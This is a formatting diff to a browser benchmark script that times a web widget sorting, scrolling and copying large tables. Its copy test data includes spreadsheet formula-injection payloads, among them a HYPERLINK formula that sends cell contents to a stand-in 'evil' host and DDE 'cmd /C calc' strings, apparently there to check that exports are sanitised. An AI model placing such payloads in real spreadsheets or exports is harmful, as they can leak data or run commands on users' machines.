@@ -16,8 +16,15 @@ import { analyseTrace, startTrace } from './lib.mjs';
 
 const table = (n) =>
   `| Region | Orders | Total |\n|:--|--:|--:|\n${Array.from({ length: n }, (_, i) => `| Region ${i} | ${n - i} | ${i * 7}.00 |`).join('\n')}\n`;
-const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "=cmd\\|' /C calc'!A0", '@SUM(1+1)', "+1+cmd\\|' /C calc'!A0", '&#9;=1+1'];
-const formulas = (n) => `| Note | Amount |\n|---|--:|\n${Array.from({ length: n }, (_, i) => `| ${FORMULAS[i % 5]} | ${-i} |`).join('\n')}\n`;
+const FORMULAS = [
+  '=HYPERLINK("http://evil/?"&A1,"x")',
+  "=cmd\\|' /C calc'!A0",
+  '@SUM(1+1)',
+  "+1+cmd\\|' /C calc'!A0",
+  '&#9;=1+1',
+];
+const formulas = (n) =>
+  `| Note | Amount |\n|---|--:|\n${Array.from({ length: n }, (_, i) => `| ${FORMULAS[i % 5]} | ${-i} |`).join('\n')}\n`;
 
 // The elements the steps poll are found once, before the trace: `querySelectorAll` over a shadow
 // root holding 130,000 rows walks every node (tens of ms), which would be measured as the
@@ -26,7 +33,13 @@ const findElements = () => {
   const root = document.querySelector('[data-service-widget]').shadowRoot;
   const th = root.querySelector('th:nth-child(2)');
   const body = root.querySelector('tbody');
-  window.__swBench = { root, th, body, box: root.querySelector('.table-scroll'), actions: root.querySelector('.table-block .actions') };
+  window.__swBench = {
+    root,
+    th,
+    body,
+    box: root.querySelector('.table-scroll'),
+    actions: root.querySelector('.table-block .actions'),
+  };
 };
 
 /** In the page: presses the Orders header; true once the sorted order is shown. */
@@ -38,7 +51,8 @@ const sortDone = (n) => {
   while (first?.hidden) first = first.nextElementSibling;
   return first?.cells[0].textContent === `Region ${n - 1}`;
 };
-const showAllPress = () => [...window.__swBench.actions.children].find((b) => b.textContent.startsWith('Show all')).click();
+const showAllPress = () =>
+  [...window.__swBench.actions.children].find((b) => b.textContent.startsWith('Show all')).click();
 /** In the page: scrolls the table to `f` of its height; true once a row is shown in the box's middle. */
 const scrolledTo = (f) => {
   const { box, root } = window.__swBench;
@@ -67,8 +81,21 @@ const copyDone = () => typeof window.__swBenchCopied === 'string' && !!window.__
 export const TABLE_SHAPES = [
   ['sort a table of 3,000 rows', () => table(3_000), [[sortPress, sortDone, 3_000]]],
   ['sort a table of 25,000 rows', () => table(25_000), [[sortPress, sortDone, 25_000]]],
-  ['sort a table of 130,000 rows (4.8 MB; no budget, must not throw)', () => table(130_000), [[sortPress, sortDone, 130_000]], null],
-  ['"Show all" on 25,000 rows, scrolled to the middle and the end', () => table(25_000), [[showAllPress, () => true], [() => 0, scrolledTo, 0.5], [() => 0, scrolledTo, 1]]],
+  [
+    'sort a table of 130,000 rows (4.8 MB; no budget, must not throw)',
+    () => table(130_000),
+    [[sortPress, sortDone, 130_000]],
+    null,
+  ],
+  [
+    '"Show all" on 25,000 rows, scrolled to the middle and the end',
+    () => table(25_000),
+    [
+      [showAllPress, () => true],
+      [() => 0, scrolledTo, 0.5],
+      [() => 0, scrolledTo, 1],
+    ],
+  ],
   ['copy and download 5,000 formula cells', () => formulas(5_000), [[copyPress, copyDone]]],
 ];
 
@@ -81,12 +108,17 @@ export async function measureTableShape(h, service, pageUrl, pageInit, steps) {
     page.on('pageerror', (e) => errors.push(e.message));
     await page.goto(pageUrl);
     await page.evaluate(pageInit, { origin: service.origin });
-    await page.evaluate(() => (window.__swBenchRoot = () => document.querySelector('[data-service-widget]').shadowRoot));
+    await page.evaluate(
+      () => (window.__swBenchRoot = () => document.querySelector('[data-service-widget]').shadowRoot),
+    );
     const shadow = page.locator('[data-service-widget]');
     await shadow.locator('[part~="composer-input"]').waitFor();
     await shadow.locator('[part~="history-button"]').click();
     await shadow.locator('[part~="history-item"]').first().click();
-    await page.waitForFunction(() => !!window.__swBenchRoot().querySelector('[part~="copy-table-button"]'), null, { timeout: 600_000, polling: 200 });
+    await page.waitForFunction(() => !!window.__swBenchRoot().querySelector('[part~="copy-table-button"]'), null, {
+      timeout: 600_000,
+      polling: 200,
+    });
     await page.evaluate(findElements);
     await page.waitForTimeout(500);
     const cdp = await context.newCDPSession(page);
@@ -98,7 +130,12 @@ export async function measureTableShape(h, service, pageUrl, pageInit, steps) {
       await page.waitForFunction(done, arg, { timeout: 120_000, polling: 50 });
     }
     const wallS = (Date.now() - started) / 1000;
-    await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(() => (console.timeStamp('bench:end'), r())))));
+    await page.evaluate(
+      () =>
+        new Promise((r) =>
+          requestAnimationFrame(() => requestAnimationFrame(() => (console.timeStamp('bench:end'), r()))),
+        ),
+    );
     const traced = analyseTrace(await trace.stop(false), pageUrl);
     if (errors.length) throw new Error(`page errors: ${errors.join('; ')}`);
     return { ms: traced.longestMs, cpuMs: traced.longestCpuMs, wallS };
